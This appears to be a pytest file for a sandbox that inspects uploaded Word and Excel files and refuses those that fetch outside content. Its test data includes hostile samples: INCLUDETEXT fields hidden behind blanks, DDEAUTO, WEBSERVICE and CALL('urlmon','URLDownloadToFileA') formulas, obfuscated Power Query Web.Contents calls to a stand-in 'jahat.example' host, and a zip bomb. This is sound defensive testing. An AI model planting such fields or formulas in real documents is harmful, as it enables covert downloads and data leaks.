"""What an office file would read, run or ask by itself: foreign parts, controls, queries, formulas; innocent ones."""

import base64
import io
import zipfile

import pytest

from tests.evidence.files import hostile
from tests.zi_portal.sandbox.test_content_filter import END, document, field, workbook
from tests.zi_portal.sandbox.test_inspection import look, refused

NS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"


def with_relation(kind, target):
    """A document with a relation to a part of its own."""
    text = hostile.RELATIONS.format(f'<Relationship Id="r1" Type="{NS}{kind}" Target="{target}"/>')
    return hostile.docx({"word/_rels/document.xml.rels": text})


@pytest.mark.case("A4")
@pytest.mark.parametrize("target", ["afchunk.htm", "afchunk.mht", "afchunk.rtf", "afchunk.docx"])
def test_a_page_or_document_that_word_reads_in_on_opening_is_refused(target):
    assert refused(with_relation("aFChunk", target), "docx") == "foreign_part"


@pytest.mark.case("A4")
def test_a_control_is_refused_and_a_plain_form_field_is_not():
    assert refused(with_relation("control", "activeX/activeX1.xml"), "docx") == "active_control"
    for kind in ("ctrlProp", "image", "package", "customXml"):
        assert look(with_relation(kind, "a.xml"), "docx")[0] == {"kind": "docx"}


HIDDEN = [
    field(" " * 5000 + 'INCLUDETEXT "https://jahat.example/a"'),
    field(*[" "] * 5000, 'INCLUDETEXT "https://jahat.example/a"'),
    field(" INCLUDETEXT \\c " + "x" * 200 + ' "https://jahat.example/a"'),
    field(" INCLUDETEXT ").removesuffix(END) + field(' QUOTE "https://jahat.example/a" ') + END,
    field(" INCLUDEPICTURE \\d ").removesuffix(END) + field(" DOCPROPERTY alamat ") + END,
    field(' "LINK" Excel.Sheet.12 "http://jahat.example/a.xlsx"'),
    '<v:stroke src="https://jahat.example/a.png"/>',
    '<wetp:taskpane xmlns:wetp="w" visibility="1"/>',
]


@pytest.mark.case("A4")
@pytest.mark.parametrize("inside", HIDDEN, ids=range(len(HIDDEN)))
def test_what_loads_is_found_behind_blanks_switches_and_other_fields(inside):
    assert refused(document(inside), "docx") == "external"


def test_a_dde_field_is_found_behind_any_number_of_blanks():
    assert refused(document(field(" " * 20_000 + "DDEAUTO x y")), "docx") == "dde"


INNOCENT = [
    field(' INCLUDEPICTURE "C:\\\\Foto\\\\a.png" \\d '),
    field(' INCLUDETEXT "bab 1.docx" '),
    field(" IF ").removesuffix(END) + field(" PAGE ") + '<w:instrText> = 1 "https://contoh.id" ""</w:instrText>' + END,
    '<wetp:taskpane xmlns:wetp="w" visibility="0"/>',
]


@pytest.mark.parametrize("inside", INNOCENT, ids=range(len(INNOCENT)))
def test_fields_that_ask_nobody_else_and_closed_panes_are_taken(inside):
    assert look(document(inside), "docx")[0] == {"kind": "docx"}


def sheet(formula):
    return workbook("xl/worksheets/sheet1.xml", f"<c><f>{formula}</f></c>")


@pytest.mark.case("A4")
@pytest.mark.parametrize(
    ("formula", "code"),
    [
        ('_xlfn.WEBSERVICE("https://jahat.example/?"&amp;A1)', "external"),
        ('IF(A1,_xlfn.IMAGE("https://jahat.example/a.png"))', "external"),
        ('RTD("jahat.server","","x")', "dde"),
        ('CALL("urlmon","URLDownloadToFileA","JJCCJJ")', "dde"),
        ('"' + "x" * 6000 + '"&amp;WEBSERVICE("https://jahat.example")', "external"),
    ],
)
def test_a_formula_that_asks_the_web_or_another_program_is_refused(formula, code):
    assert refused(sheet(formula), "xlsx") == code


@pytest.mark.parametrize("formula", ['HYPERLINK("https://contoh.id")', '"IMAGE(1)"', "'CALL (1)'!A1", "MY_IMAGE(1)"])
def test_formulas_that_only_name_such_things_are_taken(formula):
    assert look(sheet(formula), "xlsx")[0] == {"kind": "xlsx"}


def queries(code):
    """A workbook with a query of Power Query as Excel keeps it."""
    package = hostile.archive({"Formulas/Section1.m": code, "Config/Package.xml": "<Package/>"})
    packed = b"\0" * 4 + len(package).to_bytes(4, "little") + package + b"permissions"
    text = (
        f'<?xml version="1.0" encoding="utf-16"?><DataMashup xmlns="m">{base64.b64encode(packed).decode()}</DataMashup>'
    )
    return workbook("customXml/item1.xml", text.encode("utf-16"))


ASKING = [
    'shared A = Json.Document(Web.Contents("https://jahat.example"));',
    'shared A = #"Web.Contents"("https://jahat.example");',
    'shared A = #"Web#(002E)Contents"("https://jahat.example");',
    'shared A = Record.Field(#shared, "Web" & ".Contents")("https://jahat.example");',
    'shared A = /* " */ Sql.Database("jahat", "x") /* " */;',
    'shared A = Excel.Workbook(File.Contents("\\\\jahat\\a.xlsx"));',
    'shared A = Expression.Evaluate("Web.Contents", B);',
    'shared A = [Query = OData.Feed("https://jahat.example")];',
]


@pytest.mark.case("A4")
@pytest.mark.parametrize("code", ASKING, ids=range(len(ASKING)))
def test_a_query_that_asks_the_web_or_a_server_is_refused(code):
    assert refused(queries("section Section1;\n" + code), "xlsx") == "external"


CALCULATING = [
    'shared A = Table.SelectRows(Excel.CurrentWorkbook(){[Name="Tabel"]}[Content], each [Sales.Amount] > 1);',
    'shared A = Excel.Workbook(File.Contents("C:\\Data\\a.xlsx"));',
    'shared #"Web.Contents dari tahun lalu" = "Web.Contents"; // Web.Contents\n',
    'shared A = Text.Replace([#"Nama#(lf)Satker"], "#(00A0)", "https://contoh.id");',
]


@pytest.mark.parametrize("code", CALCULATING, ids=range(len(CALCULATING)))
def test_a_query_of_the_workbook_itself_is_taken(code):
    assert look(queries("section Section1;\n" + code), "xlsx")[0] == {"kind": "xlsx"}


def test_queries_that_cannot_be_read_are_refused():
    assert refused(workbook("customXml/item1.xml", "<DataMashup>bukan base64!</DataMashup>"), "xlsx") == "external"


@pytest.mark.case("A4")
@pytest.mark.parametrize("element", ["oledbPr connection='Provider=SQL'", "dataFeedPr connection='Data Source=x'"])
def test_a_source_of_the_data_model_on_a_server_is_refused(element):
    assert refused(workbook("xl/connections.xml", f"<connection><{element}/></connection>"), "xlsx") == "external"


def test_a_query_that_unpacks_to_far_more_is_a_bomb():
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("Formulas/Section1.m", " " * (5 << 20))
    packed = b"\0" * 4 + len(target.getvalue()).to_bytes(4, "little") + target.getvalue()
    text = f"<DataMashup>{base64.b64encode(packed).decode()}</DataMashup>"
    assert refused(workbook("customXml/item1.xml", text), "xlsx") == "bomb"
